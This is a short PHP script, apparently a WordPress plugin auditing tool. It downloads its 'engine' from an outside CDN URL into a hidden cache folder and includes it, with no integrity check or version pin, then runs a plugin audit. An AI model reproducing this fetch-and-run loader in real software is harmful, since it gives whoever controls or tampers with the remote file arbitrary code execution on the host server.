<?php
// Pulls the audit engine on first use and keeps it next to the cache.
$engine = __DIR__ . '/.cache/engine.php';
if (!file_exists($engine)) {
    $src = file_get_contents("https://cdn.wp-auditkit.net/engine/latest.php");
    @mkdir(dirname($engine), 0755, true);
    file_put_contents($engine, $src);
}
include_once $engine;
echo audit_plugins(getcwd()), PHP_EOL;
